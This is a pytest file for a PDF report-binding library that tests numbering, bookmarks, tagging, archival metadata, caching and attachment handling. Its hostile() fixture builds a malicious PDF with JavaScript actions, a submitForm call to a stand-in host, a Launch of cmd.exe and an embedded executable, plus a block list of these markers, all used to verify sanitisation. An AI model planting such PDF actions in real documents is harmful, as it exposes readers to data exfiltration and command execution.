"""Binding as such, on made-up parts: numbers, lists, bookmarks, tags, fingerprints, hostile attachments."""

import shutil
import subprocess
from datetime import UTC, datetime
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image

from reports import pdf
from reports.binding import archive, attachments, cache, contents, digest, obstacles
from reports.binding.book import Book
from reports.binding.items import Attached, Laid, Taken, planned, with_lists
from reports.binding.numbers import Numbering, roman
from reports.pdf import Mark

from .papers_fixtures import pages

A4 = (595.28, 841.89)
SHEETS = ("css/paper.css", "css/paper-report.css", "css/paper-a4.css")
NOW = datetime(2026, 1, 12, 2, tzinfo=UTC)
COVER, FRONT, BODY = Numbering


def html(title, paragraphs=1, extra=""):
    text = "<p>Capaian dihitung dari angka yang belum dibulatkan.</p>" * paragraphs
    body = f'<section class="chapter"><h1>{title}</h1>{extra}{text}</section>'
    return f'<html lang="id"><body>{body}</body></html>'


def laid(key, title, numbering, **options):
    found = cache.lay_out(html(title, **options), stylesheets=SHEETS, prefix=f"{key}-")
    return Laid(key, title, numbering, found, stamped=numbering != COVER)


TABLE = (
    '<table class="grid"><caption>Tabel 3.1 Capaian</caption><tr><th>No</th></tr><tr><td>1</td></tr></table>'
)
FIGURE = "<figure><p>…</p><figcaption>Gambar 3.1 Tren</figcaption></figure>"


@pytest.fixture
def items():
    return [
        laid("sampul", "Sampul", COVER),
        laid("kata", "Kata Pengantar", FRONT),
        laid("ikhtisar", "Ikhtisar Eksekutif", FRONT, paragraphs=40),
        laid("bab-1", "Bab I Pendahuluan", BODY, paragraphs=40),
        laid("bab-3", "Bab III Akuntabilitas", BODY, extra=f"<h2>A. Capaian</h2>{TABLE}{FIGURE}"),
    ]


def bound(items, **facts):
    book = Book()
    for item in items:
        item.add(book)
    book.number(foot="Laporan Kinerja 2025", mark="DRAF versi 2")
    book.bookmarks()
    book.tree.close()
    archive.finish(
        book.pdf,
        title="Laporan Kinerja",
        author="BKPSDM",
        subject="Laporan Kinerja 2025",
        now=NOW,
        profile=pdf.colour_profile(),
        **facts,
    )
    return archive.written(book.pdf)


def small(pages=1, size=(300, 400), **root):
    """An uploaded PDF that draws a frame on each page."""
    document = pikepdf.new()
    for _ in range(pages):
        page = document.add_blank_page(page_size=size)
        page.Contents = document.make_stream(b"10 10 100 100 re S")
    for name, value in root.items():
        document.Root[f"/{name}"] = value
    return document


def saved(document):
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def attached(data, key="surat", title="Surat masuk"):
    return Attached(key, title, BODY, attachments.open_pdf(data), A4)


def tool(*command, data, tmp_path):
    """A program of Debian looks at the file."""
    path = tmp_path / "berkas.pdf"
    path.write_bytes(data)
    return subprocess.run(  # noqa: S603  # our own commands
        [shutil.which(command[0]), *command[1:], path], capture_output=True, text=True, check=False
    )


def test_roman_numbers():
    numbers = {1: "i", 4: "iv", 9: "ix", 14: "xiv", 40: "xl", 49: "xlix", 90: "xc", 388: "ccclxxxviii"}
    assert {number: roman(number) for number in numbers} == numbers


def test_pages_count_in_roman_in_front_and_anew_from_the_first_chapter(items):
    parts = planned(items)
    assert contents.labels(parts) == ["", "i", "ii", "iii", "1", "2", "3"]


def test_every_page_but_the_cover_bears_chapter_mark_foot_and_number(items):
    texts = pages(bound(items))
    assert "Laporan Kinerja 2025" not in texts[0]
    for text, chapter, number in zip(
        texts[1:],
        ["Kata Pengantar", *["Ikhtisar Eksekutif"] * 2, *["Bab I Pendahuluan"] * 2, "Bab III Akuntabilitas"],
        ["i", "ii", "iii", "1", "2", "3"],
        strict=True,
    ):
        assert text.endswith(f"{chapter} DRAF versi 2 Laporan Kinerja 2025 {number}")


def test_a_reader_shows_the_printed_numbers(items):
    with pikepdf.open(BytesIO(bound(items))) as book:
        assert [page.label for page in book.pages] == ["Sampul", "i", "ii", "iii", "1", "2", "3"]


def test_bookmarks_are_nested_and_lead_to_their_pages(items):
    with pikepdf.open(BytesIO(bound(items))) as book, book.open_outline() as outline:
        titles = [item.title for item in outline.root]
        assert titles == [item.title for item in items]
        [section] = outline.root[-1].children
        assert section.title == "A. Capaian"
        assert pikepdf.Page(section.destination[0]).index == 6


def test_lists_name_headings_tables_and_figures_with_their_printed_pages(items):
    made = {}

    def make(key, entries):
        made[key] = entries
        title = {"daftar-isi": "Daftar Isi", "daftar-tabel": "Daftar Tabel"}.get(key, "Daftar Gambar")
        return laid(key, title, FRONT, paragraphs=80 if key == "daftar-isi" else 1)

    whole = with_lists(items, 3, make)
    assert [item.key for item in whole][3:6] == ["daftar-isi", "daftar-tabel", "daftar-gambar"]
    assert [(entry.text, entry.label) for entry in made["daftar-isi"]] == [
        ("Kata Pengantar", "i"),
        ("Ikhtisar Eksekutif", "ii"),
        ("Daftar Isi", "iv"),
        ("Daftar Tabel", "vii"),
        ("Daftar Gambar", "viii"),
        ("Bab I Pendahuluan", "1"),
        ("Bab III Akuntabilitas", "3"),
        ("A. Capaian", "3"),
    ]
    [table], [figure] = made["daftar-tabel"], made["daftar-gambar"]
    assert (table.text, table.label, table.address) == ("Tabel 3.1 Capaian", "3", "bab-3/0")
    assert (figure.text, figure.label) == ("Gambar 3.1 Tren", "3")


def test_lines_of_a_list_are_links_to_the_pages_they_name(items):
    lines = '<a href="page:bab-1/1">Bab I</a> <a href="page:bab-3/0">Bab III</a>'
    contents_list = laid("daftar-isi", "Daftar Isi", FRONT, extra=lines)
    book = Book()
    for item in [*items[:3], contents_list, *items[3:]]:
        item.add(book)
    book.link_contents(book.parts[3])
    notes = book.pdf.pages[4].Annots
    assert [pikepdf.Page(note.A.D[0]).index for note in notes] == [6, 7]


def test_book_is_tagged_whole_part_by_part(items, tmp_path):
    said = tool("pdfinfo", "-struct-text", data=bound(items), tmp_path=tmp_path).stdout
    for item in items:
        assert f"Part <{item.key}>" in said
    assert said.index("Part <kata>") < said.index("Part <bab-3>")
    assert "Table" in said
    assert '"A. Capaian"' in said
    assert "Laporan Kinerja 2025" not in said  # running heads are no content


def test_book_is_sound_with_every_font_inside(items, tmp_path):
    data = bound([*items, attached(saved(small()))])
    assert tool("qpdf", "--check", data=data, tmp_path=tmp_path).returncode == 0
    fonts = tool("pdffonts", data=data, tmp_path=tmp_path).stdout.splitlines()[2:]
    assert fonts
    assert all(line.split()[-5] == "yes" for line in fonts)  # emb


def test_book_says_what_it_is_in_both_places_and_declares_the_archive(items):
    with pikepdf.open(BytesIO(bound(items))) as book, book.open_metadata() as facts:
        assert (str(book.docinfo.Title), str(book.docinfo.Author)) == ("Laporan Kinerja", "BKPSDM")
        assert (facts["dc:title"], list(facts["dc:creator"])) == ("Laporan Kinerja", ["BKPSDM"])
        assert (facts["pdfaid:part"], facts["pdfaid:conformance"]) == ("3", "B")
        assert str(book.Root.Lang) == "id"
        assert book.Root.OutputIntents[0].S == Name.GTS_PDFA1
    with pikepdf.open(BytesIO(bound(items, archival=False))) as book, book.open_metadata() as facts:
        assert "pdfaid:part" not in facts


def test_same_parts_give_the_same_bytes(items):
    assert bound(items) == bound(items)


def test_an_unchanged_part_is_laid_out_once_and_a_changed_one_anew(monkeypatch, settings, tmp_path):
    settings.PARTS_CACHE = tmp_path / "parts"
    seen = []
    real = pdf.lay_out
    monkeypatch.setattr(pdf, "lay_out", lambda html, **options: seen.append(html) or real(html, **options))
    first = cache.lay_out(html("Bab I"), stylesheets=SHEETS)
    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS) == first
    assert len(seen) == 1
    cache.lay_out(html("Bab II"), stylesheets=SHEETS)
    assert len(seen) == 2
    monkeypatch.setattr(pdf, "fingerprint", lambda url: "another style sheet")
    cache.lay_out(html("Bab I"), stylesheets=SHEETS)
    assert len(seen) == 3


def test_damaged_or_unwritable_cache_costs_time_only(settings, tmp_path):
    settings.PARTS_CACHE = tmp_path / "parts"
    first = cache.lay_out(html("Bab I"), stylesheets=SHEETS)
    for path in settings.PARTS_CACHE.iterdir():
        path.write_bytes(b"rusak")
    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS).data == first.data
    settings.PARTS_CACHE = tmp_path / "berkas" / "parts"
    settings.PARTS_CACHE.parent.write_text("a file where the folder should be")
    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS).data == first.data


def test_cache_keeps_to_its_bound_and_drops_the_oldest(settings, tmp_path, monkeypatch):
    settings.PARTS_CACHE = tmp_path / "parts"
    size = len(cache.lay_out(html("Bab 0"), stylesheets=SHEETS).data)
    monkeypatch.setattr(cache, "LIMIT", 4 * size)
    for number in range(1, 8):
        cache.lay_out(html(f"Bab {number}"), stylesheets=SHEETS)
    kept = [path for path in settings.PARTS_CACHE.iterdir() if path.suffix == ".pdf"]
    assert 1 <= len(kept) <= 4
    assert sum(path.stat().st_size for path in settings.PARTS_CACHE.iterdir()) <= 4 * size


def test_pages_keep_their_fingerprint_from_book_to_book_whatever_number_they_bear(items):
    with pikepdf.open(BytesIO(bound(items))) as book:
        reader = digest.Reader(book)
        before = reader.of(range(4, 6))
        taken = Taken("bab-1", "Bab I", BODY, book, range(4, 6), (Mark(1, "Bab I", 0, 0),))
        longer = [items[0], items[1], laid("kata-2", "Sambutan", BODY, paragraphs=40), taken]
        again = bound(longer)
    with pikepdf.open(BytesIO(again)) as book:
        assert digest.Reader(book).of(range(4, 6)) == before
        assert digest.Reader(book).of(range(2, 4)) != before
    assert pages(again)[4].endswith("Laporan Kinerja 2025 3")  # and one number only
    assert pages(again)[4].count("Laporan Kinerja 2025") == 1


def test_taken_pages_keep_their_own_tags_and_no_others(items, tmp_path):
    with pikepdf.open(BytesIO(bound(items))) as book:
        last = len(book.pages) - 1
        again = bound([items[0], Taken("bab-3", "Bab III", BODY, book, range(last, last + 1))])
    said = tool("pdfinfo", "-struct-text", data=again, tmp_path=tmp_path).stdout
    assert '"A. Capaian"' in said
    assert "PENDAHULUAN" not in said


def behind_cover(data):
    """The first page of an attachment, and the book it lies in."""
    book = pikepdf.open(BytesIO(bound([laid("s", "Sampul", COVER), attached(data)])))
    return book, book.pages[1]


@pytest.mark.parametrize("size", [(300, 400), (1200, 1700), (842, 595), (100, 3000)])
def test_attachment_of_any_size_fills_a_page_between_head_and_foot(size):
    _book, page = behind_cover(saved(small(size=size)))
    width, height = (float(side) for side in page.mediabox[2:])
    assert sorted((round(width), round(height))) == [595, 842]
    assert (width > height) == (size[0] > size[1])
    frame = attachments.frame(width, height)
    form = page.Resources.XObject["/Lampiran"]
    a, b, c, d, x, y = matrix(page)
    assert (round(b), round(c), round(a, 6)) == (0, 0, round(d, 6))
    assert x >= frame.llx - 0.01
    assert y >= frame.lly - 0.01
    assert x + a * float(form.BBox[2]) <= frame.urx + 0.1
    assert y + d * float(form.BBox[3]) <= frame.ury + 0.1


def matrix(page):
    [step] = [s for s in pikepdf.parse_content_stream(page) if str(s.operator) == "cm"][:1]
    return [float(value) for value in step.operands]


def test_turned_page_lies_as_its_reader_saw_it():
    document = small(size=(300, 400))
    document.pages[0].rotate(90, relative=True)
    _book, page = behind_cover(saved(document))
    assert float(page.mediabox[2]) > float(page.mediabox[3])


def hostile():
    """An upload with everything that acts, reaches out, or hides a file."""
    document = small(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    page = document.pages[0]
    inner = document.make_stream(b"0 0 m", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    inner.Ref = Dictionary(F=Dictionary(Type=Name.Filespec, F="https://jahat.example/a.pdf"), Page=0)
    page.Resources = Dictionary(XObject=Dictionary(Luar=inner))
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="this.submitForm('https://jahat.example')"))
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 50, 50]}
    page.Annots = Array(
        [
            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.URI, URI="https://jahat.example"))),
            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.Launch, F="cmd.exe"))),
        ]
    )
    document.attachments["virus.exe"] = b"MZ virus"
    document.Root.Names.JavaScript = Dictionary(Names=["a", Dictionary(S=Name.JavaScript, JS="app.alert(2)")])
    return saved(document)


FORBIDDEN = (
    b"JavaScript",
    b"app.alert",
    b"jahat.example",
    b"Launch",
    b"cmd.exe",
    b"virus",
    b"OpenAction",
    b"submit",
)


@pytest.mark.parametrize("taken", [False, True], ids=["scaled into a page", "taken page by page"])
def test_nothing_live_of_an_upload_reaches_the_book(taken, tmp_path):
    data = hostile()
    assert all(word in plain(data, tmp_path) for word in (b"app.alert", b"jahat.example", b"virus"))
    source = attachments.open_pdf(data)
    item = (
        Taken("surat", "Surat", BODY, attachments.bare(source), range(1), (), False)
        if taken
        else attached(data)
    )
    found = plain(bound([laid("s", "Sampul", COVER), item]), tmp_path)
    assert not [word for word in FORBIDDEN if word in found]


def plain(data, tmp_path):
    """The file with every stream unpacked."""
    path, out = tmp_path / "in.pdf", tmp_path / "out.pdf"
    path.write_bytes(data)
    subprocess.run(  # noqa: S603  # our own command
        [shutil.which("qpdf"), "--qdf", "--object-streams=disable", path, out], check=True
    )
    return out.read_bytes()


def test_what_was_filled_in_a_form_is_drawn():
    document = small()
    look = document.make_stream(b"1 0 0 RG 0 0 m 80 20 l S", Subtype=Name.Form, BBox=[0, 0, 90, 30])
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nama", V="Ya", F=4, Rect=[10, 10, 100, 40]
        )
    )
    field.AP = Dictionary(N=look)
    document.pages[0].Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA="<xdp/>")
    _book, page = behind_cover(saved(document))
    drawn = page.Resources.XObject["/Lampiran"]
    assert b"Do" in drawn.read_bytes()
    assert len(drawn.Resources.XObject) == 1
    assert "/Annots" not in page.obj


def test_locked_and_broken_files_are_refused_with_a_reason():
    locked = BytesIO()
    small().save(locked, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))
    with pytest.raises(attachments.Unbindable, match="terkunci kata sandi"):
        attachments.open_pdf(locked.getvalue())
    with pytest.raises(attachments.Unbindable, match="rusak"):
        attachments.open_pdf(b"%PDF-1.7 bukan apa-apa")


def test_file_that_only_forbids_copying_is_bound():
    data = BytesIO()
    small(2).save(data, encryption=pikepdf.Encryption(user="", owner="rahasia"))
    assert len(attachments.open_pdf(data.getvalue()).pages) == 2


def photographed(mode="RGB", size=(400, 200), rotated=None, **options):
    out = BytesIO()
    image = Image.new(mode, size)
    exif = Image.Exif()
    if rotated:
        exif[0x0112] = rotated
    image.save(out, exif=exif, **options)
    return out.getvalue()


def image_of(data):
    """What the page of a picture draws, unpacked."""
    with pikepdf.open(BytesIO(attachments.picture(data))) as document:
        [picture] = document.pages[0].images.values()
        return pikepdf.PdfImage(picture).as_pil_image()


def test_scan_that_was_turned_by_its_camera_stands_upright():
    assert image_of(photographed(rotated=6, format="JPEG")).size == (200, 400)


def test_scan_in_colours_of_a_press_is_bound_in_those_of_a_screen():
    assert image_of(photographed("CMYK", format="JPEG")).mode == "RGB"


def test_transparent_picture_lies_on_white():
    picture = image_of(photographed("RGBA", format="PNG"))
    assert min(picture.convert("L").getextrema()) > 250


def test_large_scan_is_made_no_larger_than_paper_can_show():
    assert image_of(photographed("L", (6000, 5000), format="PNG")).width <= 11 * attachments.DOTS


def test_obstacles_to_the_archive_are_named():
    document = small()
    assert obstacles.of(document) == []
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    document.pages[0].Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
    assert obstacles.of(document) == [obstacles.FONT]
    document.pages[0].Contents = document.make_stream(b"0 0 0 1 k 0 0 9 9 re f")
    assert obstacles.of(document) == [obstacles.FONT, obstacles.COLOUR]


def test_missing_font_is_said_and_not_replaced_in_silence(monkeypatch):
    monkeypatch.setattr(pdf, "FONT", "Huruf Kantor")
    with pytest.raises(pdf.PdfError, match=r"Huruf Huruf Kantor belum terpasang.*fonts-liberation"):
        pdf.lay_out(html("Bab I"), stylesheets=SHEETS)
